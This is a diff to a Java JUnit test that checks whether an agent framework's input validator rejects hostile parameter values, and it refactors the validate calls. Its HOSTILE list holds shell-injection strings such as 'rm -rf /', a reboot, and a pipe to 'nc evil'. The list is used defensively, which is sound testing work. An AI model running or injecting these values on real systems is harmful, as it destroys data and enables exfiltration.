@@ -11,6 +11,8 @@ import io.drover.agents.pkg.PackageAgent;
 import io.drover.agents.pkg.SandboxPackages;
 import io.drover.agents.service.SandboxServices;
 import io.drover.agents.service.ServiceAgent;
+import io.drover.catalog.Inputs;
+import io.drover.catalog.InvalidInputException;
 import io.drover.protocol.Status;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
@@ -37,7 +39,7 @@ class InputValidatorHostileInputsTest {
             Map.of("commands", Map.of("check_load", Map.of(), "check_disk.root", Map.of(), "check-http", Map.of())))),
             Duration.ofSeconds(10));
     private static final AgentPlugin RPCUTIL = Node.build(new NodeSpec("web01.example.com", List.of("drover"), Set.of(),
-            Map.of(), Map.of()), Plugins.builtIn()).plugin("rpcutil");
+            Map.of(), Map.of()), Plugins.installed()).plugin("rpcutil");
 
     private static final List<String> HOSTILE = List.of(
             "mywebapp; rm -rf /", "mywebapp && reboot", "mywebapp | nc evil 1", "$(reboot)", "${IFS}", "`reboot`",
@@ -88,7 +90,7 @@ class InputValidatorHostileInputsTest {
         List<String> accepted = new ArrayList<>();
         for (String value : hostile) {
             try {
-                InputValidator.validate(plugin.name(), action, params(input, actionName, value));
+                action.validate(plugin.name(), params(input, actionName, value));
                 accepted.add(value);
             } catch (InvalidInputException e) {
                 assertEquals(Status.INVALID_DATA, e.status(), value + ": " + e.getMessage());
@@ -105,7 +107,7 @@ class InputValidatorHostileInputsTest {
     void validValuesAreAccepted(AgentPlugin plugin, String actionName, String input, List<String> valid) throws Exception {
         Action action = plugin.action(actionName);
         for (String value : valid) {
-            Inputs inputs = InputValidator.validate(plugin.name(), action, params(input, actionName, value));
+            Inputs inputs = action.validate(plugin.name(), params(input, actionName, value));
             assertTrue(inputs.asMap().containsKey(input), value);
         }
     }
@@ -116,14 +118,14 @@ class InputValidatorHostileInputsTest {
         Action action = plugin.action(actionName);
         for (Object value : List.of(42, true, List.of("mywebapp"), Map.of("x", "y"))) {
             InvalidInputException e = assertThrows(InvalidInputException.class,
-                    () -> InputValidator.validate(plugin.name(), action, params(input, actionName, value)));
+                    () -> action.validate(plugin.name(), params(input, actionName, value)));
             assertEquals(Status.INVALID_DATA, e.status(), String.valueOf(value));
         }
     }
 
     @org.junit.jupiter.api.Test
     void addressIsNormalisedByTheDeclaration() throws Exception {
-        Inputs inputs = InputValidator.validate("firewall", FIREWALL.action("block"),
+        Inputs inputs = FIREWALL.action("block").validate("firewall",
                 Map.of("address", "2001:0DB8:0000:0000:0000:0000:0000:0001"));
         assertEquals("2001:db8::1", inputs.string("address"));
     }
@@ -131,7 +133,7 @@ class InputValidatorHostileInputsTest {
     @org.junit.jupiter.api.Test
     void undefinedCheckIsInvalidDataListingDefinedOnes() {
         InvalidInputException e = assertThrows(InvalidInputException.class,
-                () -> InputValidator.validate("nrpe", NRPE.action("run_command"), Map.of("command", "check_users")));
+                () -> NRPE.action("run_command").validate("nrpe", Map.of("command", "check_users")));
         assertEquals(Status.INVALID_DATA, e.status());
         assertTrue(e.getMessage().contains("(defined: check-http, check_disk.root, check_load)"), e.getMessage());
     }
